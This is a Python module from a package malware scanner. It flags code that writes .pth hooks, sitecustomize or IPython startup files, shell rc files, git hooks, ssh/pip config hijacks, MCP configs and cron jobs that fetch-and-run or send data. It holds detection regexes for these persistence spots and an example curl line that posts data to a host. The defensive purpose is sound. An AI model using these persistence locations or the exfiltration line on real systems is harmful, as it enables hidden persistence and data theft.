"""Threat sinks of start-up files written: a .pth hook, a Python start-up file
(``sitecustomize``, IPython's and Jupyter's), a shell's start-up file, another program's
configuration that runs a command or picks where it fetches (ssh, pip: blind16), and a
cron job (a mixin of :class:`caplet._scan._sinks.Sinks`, split from
:mod:`caplet._scan._sink_stages` when it passed 600 lines).
"""

from __future__ import annotations

import ast
from collections.abc import Callable
from pathlib import PurePosixPath
from typing import Final

import re2

from caplet._findings import Finding
from caplet._scan._agent_configs import agent_config
from caplet._scan._config_hijacks import hijacked_config, runner_env_hijack
from caplet._scan._correlate import Tag
from caplet._scan._filescan import FileScan
from caplet._scan._flow import Flow
from caplet._scan._rules import RuleFamily, RuleKind, rule
from caplet._scan._shell_scripts import script_payload
from caplet._scan._sink_egress import fixed_host
from caplet._scan._sources import Source

__all__ = ["MAX_NESTED_TEXT", "SHELL_STARTUP", "StartupSinks", "capable_finding", "sending_line"]

#: Rule families whose presence in Python source kept in a string makes running it a threat.
#: Processes, ctypes, pickle or frames alone are not enough: test suites run
#: snippets that use them; the network only with a host written into the source.
_CAPABLE_FAMILIES = frozenset({RuleFamily.EXFILTRATION, RuleFamily.PERSISTENCE, RuleFamily.MINING})


#: Longest string scanned as Python (larger ones are data, or were scanned as a file).
MAX_NESTED_TEXT = 1 << 20

#: Python start-up files: run by every interpreter (``sitecustomize``, ``usercustomize``), every
#: IPython session (a profile's ``startup`` folder, its config) or Jupyter server (its config,
#: blind15), never imported by name: what is written into one is run (branch blind13).
_STARTUP_FILE: Final = re2.compile(
    r"(?i)(?:^|[/\\])(?:sitecustomize|usercustomize|jupyter_(?:server|notebook)_config)\.py$|"
    r"\.ipython[/\\]+profile_[^/\\]*[/\\]+(?:startup[/\\]+[^/\\]+|ipython_config)\.py$"
)


#: A shell's start-up files, among the autostart locations: configuration too; a git hook;
#: ``~/.ssh/rc``, which sshd runs with the user's shell at every login (blind17).
SHELL_STARTUP: Final = re2.compile(
    r"\.(?:bashrc|zshrc|bash_profile|profile|bash_completions?)\b|hooks[/\\]+(?:pre|post)-[a-z-]+$|"
    r"\.ssh[/\\]+rc$"
)


#: A downloader's options that send data (a file, a form, standard input): curl's ``-d``,
#: ``-F``, ``-T`` (alone or last in a group, ``-sd @-``) and their long names, wget's
#: ``--post-data``/``--post-file``.
_CURL_SENDS: Final = re2.compile(
    r"(?:^|\s)(?:-[a-zA-Z]*[dFT]|--data(?:-[a-z]+)?|--form(?:-string)?|--upload-file|--json)"
    r"(?:[=\s@]|$)"
)
_WGET_SENDS: Final = re2.compile(r"(?:^|\s)--(?:post|body)-(?:data|file)(?:[=\s]|$)")
_DOWNLOADER: Final = re2.compile(r"\b(curl|wget)\b")


def sending_line(text: str) -> str | None:
    """The first line of shell text that sends data to a URL with curl or wget (``printf
    %s "$p" | curl -d @- https://host/c``): written into a shell's start-up file, every
    shell sends (a ``sudo`` wrapper posting the typed password: blind31)."""
    for line in text.split("\n")[:4096]:
        program = _DOWNLOADER.search(line)
        if program is None or "://" not in line:
            continue
        sends = _CURL_SENDS if program.group(1) == "curl" else _WGET_SENDS
        if sends.search(line[program.end() :]) is not None:
            return line.strip()[:120]
    return None


def _keyword(node: ast.Call, name: str) -> ast.expr | None:
    return next((k.value for k in node.keywords if k.arg == name), None)


def capable_finding(rule_id: str, text: str) -> bool:
    """A finding that makes Python source kept in a string a second stage when it runs."""
    r = rule(rule_id)
    if r.kind is RuleKind.THREAT or r.family in _CAPABLE_FAMILIES:
        return True
    return r.family is RuleFamily.NETWORK and fixed_host(text)


class StartupSinks:
    """The checks of :class:`caplet._scan._sinks.Sinks` this module holds (a mixin: the
    state and the stage sinks' methods it calls are declared here for the type checker)."""

    _scan: FileScan
    _flow: Flow
    _nested_scan: Callable[[str, int], list[Finding]]
    _code_string: Callable[[ast.Call, str, str], None]
    _looks_like_code: Callable[[str], bool]

    def _pth_written(
        self,
        node: ast.Call,
        path: ast.AST,
        data: tuple[ast.expr, ...],
        handle: str | None,
        scope: int,
    ) -> None:
        text = self._flow.name_value(path) or ""
        pieces = [
            c.value
            for c in ast.walk(path)
            if isinstance(c, ast.Constant) and isinstance(c.value, str)
        ]
        items = list(data)
        if handle is not None:
            bound = self._flow.contributed.get(handle, {})
            items.extend(bound.get(scope, ()))
        if not (text.endswith(".pth") or any(p.endswith(".pth") for p in pieces)):
            written = text or self._flow.path_text(path) or ""
            self._startup_written(node, written, items)
            named = [*self._bound_pieces(path), *self._looped_pieces(path)]
            self._config_written(node, [written, *pieces, *named], items)
            if SHELL_STARTUP.search(written) is None and self._looped_names(path, SHELL_STARTUP):
                # for rc in (".bashrc", ".zshrc"): Path.home() / rc (blind14)
                self._shell_startup_written(node, items)
            return
        for item in items:
            value = self._flow.evaluate(item)
            if isinstance(value, bytes):
                value = value.decode("utf-8", "replace")
            if not isinstance(value, str):
                continue
            # lines as site splits a .pth, not str.splitlines: "\f", "\x1c", "\u2028"...
            # inside an import line hid what came after them (scanfuzz)
            for line in value.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
                if line.startswith(("import ", "import\t")):
                    findings = self._nested_scan(line, node.lineno)
                    if any(
                        capable_finding(f.rule_id, line)
                        or rule(f.rule_id).family is RuleFamily.PROCESS
                        for f in findings
                    ):
                        self._scan.emit(
                            "CPL-THR-013",
                            "a .pth file written by this code",
                            node.lineno,
                            node.col_offset,
                        )
                        return

    def _config_written(self, node: ast.Call, paths: list[str], items: list[ast.expr]) -> None:
        # ssh's and pip's configuration given a command or an index on a fixed host (blind16)
        values = (self._flow.evaluate(i) for i in items[:8])
        texts = [v.decode("utf-8", "replace") if isinstance(v, bytes) else v for v in values]
        found = hijacked_config(paths, [t for t in texts if isinstance(t, str)])
        if found is None:
            # f"BASH_ENV={hook}\n": the literal pieces name the variable (blind32)
            pieces = [
                "".join(
                    c.value
                    for c in ast.walk(i)
                    if isinstance(c, ast.Constant) and isinstance(c.value, str)
                )
                for i in items[:8]
            ]
            found = runner_env_hijack(paths, [t for t in (*texts, *pieces) if isinstance(t, str)])
        if found is not None:
            self._scan.emit("CPL-THR-009", found, node.lineno, node.col_offset)
        config = agent_config(paths)
        if config is not None:
            self._agent_config_written(node, config)

    def _agent_config_written(self, node: ast.Call, config: str) -> None:
        """An MCP client's configuration written by code that holds a command that
        downloads and runs (its module's or its function's literals): the agent starts
        that server at every start (blind17, ``_agent_configs``)."""
        scope = self._flow.scope(node)
        bound = self._flow.bindings.scoped
        values = [v for scopes in bound.values() for s in (0, scope) for v in scopes.get(s, ())]
        for value in values[:256]:
            for c in ast.walk(value):
                if not (isinstance(c, ast.Constant) and isinstance(c.value, str)):
                    continue
                text = c.value[:MAX_NESTED_TEXT]
                if script_payload(text, ".sh") is not None or any(
                    capable_finding(f.rule_id, text) for f in self._nested_scan(text, node.lineno)
                ):
                    shown = config.rsplit("/", 1)[-1]
                    self._scan.emit(
                        "CPL-THR-015",
                        f"an MCP server that fetches and runs code written into {shown}",
                        node.lineno,
                        node.col_offset,
                    )
                    return

    def _bound_pieces(self, path: ast.AST) -> list[str]:
        """The literals of the values a path's name is bound to (``p = a if w else b``)."""
        if not isinstance(path, ast.Name):
            return []
        bound = self._flow.bindings.assigned.get(path.id, ())[:4]
        return [
            c.value
            for value in bound
            for c in ast.walk(value)
            if isinstance(c, ast.Constant) and isinstance(c.value, str)
        ][:32]

    def _looped_pieces(self, path: ast.AST) -> list[str]:
        """The literals of the lists a path's name is taken from by a loop, or of the
        values those lists' names are bound to (``for cfg in CONFIGS``: blind17)."""
        if not isinstance(path, ast.Name):
            return []
        bindings = self._flow.bindings
        iterables = list(bindings.iterated.get(path.id, ())[:4])
        for iterable in iterables[:4]:
            if isinstance(iterable, ast.Name):
                iterables.extend(bindings.assigned.get(iterable.id, ())[:4])
        return [
            c.value
            for value in iterables
            for c in ast.walk(value)
            if isinstance(c, ast.Constant) and isinstance(c.value, str)
        ][:64]

    def _startup_written(self, node: ast.Call, path: str, items: list[ast.expr]) -> None:
        """Python source written into a start-up file (:data:`_STARTUP_FILE`): run as if
        started, so its threats are the writer's (an IPython startup script that fetches
        and runs code, a ``sitecustomize.py`` dropped into site-packages). A file of the
        package copied there, or its content written there, is persistence: every
        interpreter (or IPython session) runs what the package put there. Content the
        code builds at run time is not: pip's build environment, setuptools' and
        virtualenv's tests write a ``sitecustomize.py`` that adds a site directory."""
        if _STARTUP_FILE.search(path) is None:
            if SHELL_STARTUP.search(path) is not None:
                self._shell_startup_written(node, items)
            return
        packaged = False
        for item in items[:8]:
            value = self._flow.evaluate(item)
            if isinstance(value, bytes):
                value = value.decode("utf-8", "replace")
            if isinstance(value, str) and self._looks_like_code(value):
                self._code_string(node, "a Python start-up file written from a string", value)
            elif not isinstance(value, str):
                packaged = packaged or any(s is Source.PACKAGED for s, _ in self._flow.labels(item))
        if packaged:
            self._scan.tag(Tag.PERSISTENCE_WRITE, node.lineno, PurePosixPath(path).name)

    def scheduled(self, node: ast.Call) -> None:
        """A job added to the user's crontab by python-crontab (``CronTab(user=True)
        .new(command=...)``): cron runs its command, so a download piped to a shell in
        it runs (blind14); a job that runs a local program is a scheduler's job."""
        command = _keyword(node, "command") or (node.args[0] if node.args else None)
        text = self._flow.name_value(command) if command is not None else None
        found = script_payload(text, ".sh") if text is not None else None
        if found is not None:
            self._scan.emit(
                "CPL-THR-015", f"a cron job of {found[1][:80]!r}", node.lineno, node.col_offset
            )

    def _looped_names(self, path: ast.AST, pattern: re2._Regexp[str]) -> bool:
        """Whether a name inside ``path`` is taken by a loop from a literal list one of
        whose strings ``pattern`` finds (``for rc in (".bashrc", ".zshrc")``), or inside
        the value a name of ``path`` is bound to (``p = Path.home() / rc``)."""
        names = [n for n in ast.walk(path) if isinstance(n, ast.Name)]
        for bound in [v for n in names[:8] for v in self._flow.bindings.assigned.get(n.id, ())[:4]]:
            names.extend(n for n in ast.walk(bound) if isinstance(n, ast.Name))
        for name in names[:64]:
            for iterable in self._flow.bindings.iterated.get(name.id, ())[:4]:
                if isinstance(iterable, ast.List | ast.Tuple | ast.Set) and any(
                    isinstance(e, ast.Constant)
                    and isinstance(e.value, str)
                    and pattern.search(e.value) is not None
                    for e in iterable.elts[:32]
                ):
                    return True
        return False

    def _shell_startup_written(self, node: ast.Call, items: list[ast.expr]) -> None:
        """A shell's start-up file (``~/.bashrc``) written with a line that downloads and
        runs a program: every new shell runs it (blind14). A completion installer's
        ``source`` line, what typer and cyclopts append, downloads nothing."""
        for item in items[:8]:
            value = self._flow.evaluate(item)
            if isinstance(value, bytes):
                value = value.decode("utf-8", "replace")
            found = (
                script_payload(value[:MAX_NESTED_TEXT], ".sh") if isinstance(value, str) else None
            )
            if found is not None:
                self._scan.emit(
                    "CPL-THR-015",
                    f"a shell start-up file or git hook written with {found[1][:80]!r}",
                    node.lineno,
                    node.col_offset,
                )
                return
            sent = sending_line(value[:MAX_NESTED_TEXT]) if isinstance(value, str) else None
            if sent is not None:
                self._scan.emit(
                    "CPL-THR-009",
                    f"a shell start-up file or git hook written with {sent[:80]!r},"
                    " which sends data,",
                    node.lineno,
                    node.col_offset,
                )
                return
